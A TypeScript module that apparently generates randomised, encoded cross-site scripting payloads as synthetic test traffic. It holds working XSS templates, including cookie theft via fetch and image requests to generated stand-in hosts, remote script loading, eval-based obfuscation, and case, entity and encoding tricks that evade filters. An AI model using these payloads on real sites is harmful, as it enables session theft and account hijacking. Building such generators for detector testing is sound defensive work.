import type { Random } from '../../stats/random.ts'
import { anyEncoding, mixedCase, word } from './encode.ts'

function action(random: Random): string {
  const host = `${word(random, 7)}.${random.pick(['xyz', 'top', 'site'])}`
  const number = random.below(10_000)
  return random.pick([
    `alert(${number})`,
    `alert(document.domain)`,
    `confirm\`${number}\``,
    `prompt(${number})`,
    `fetch('//${host}/?c='+document.cookie)`,
    `new Image().src='//${host}/'+document.cookie`,
    `eval(atob('${Buffer.from(`alert(${number})`).toString('base64')}'))`,
    `window['al'+'ert'](${number})`,
    `location='//${host}'`,
    `eval(String.fromCharCode(97,108,101,114,116,40,${48 + random.below(9)},41))`,
    `top[/al/.source+/ert/.source](${number})`,
  ])
}

function entities(text: string, random: Random): string {
  return Array.from(text, (c) => {
    if (random.chance(0.7)) return c
    const code = c.charCodeAt(0)
    return random.chance(0.5) ? `&#${code};` : `&#x${code.toString(16)};`
  }).join('')
}

const events = [
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
]
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=1',
  'marquee',
  'iframe',
]

function handler(random: Random): string {
  const gap = random.pick([' ', '/', '\t', '\n'])
  const quote = random.pick(['', '"', "'"])
  let script = action(random)
  if (quote === '' || script.includes(quote)) script = script.replaceAll(/[\s"']/g, '`')
  const body = random.chance(0.3) ? entities(script, random) : script
  const element = random.pick(elements).replace(' ', gap)
  return `<${element}${gap}${random.pick(events)}=${quote}${body}${quote}${random.pick(['>', '/>', '//', ' x='])}`
}

function element(random: Random): string {
  const name = random.pick(['script', 'ScRiPt', 'script x', 'script/x'])
  const close = name.split(/[ /]/)[0]!
  if (random.chance(0.3))
    return `<${name} src=//${word(random, 8)}.${random.pick(['xyz', 'top'])}/${word(random, 3)}.js></${close}>`
  return `<${name}>${action(random)}</${close}>`
}

function link(random: Random): string {
  const scheme = random.pick([
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'jav&#x61;script:',
    'data:text/html,',
  ])
  const body = scheme.startsWith('data') ? `<script>${action(random)}</script>` : action(random)
  return `<a href="${scheme}${body}">${word(random)}</a>`
}

const opens = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '-->', '"/>', '`']

/** One script injection, encoded: the value of a parameter. */
export function scriptPayload(random: Random): string {
  const shape = random.pick([handler, handler, element, element, link])(random)
  const hidden = random.chance(0.15)
    ? shape.replace(/<\w+/, (tag) => mixedCase(tag, random))
    : shape
  return anyEncoding(random)(`${random.pick(opens)}${hidden}`, random)
}
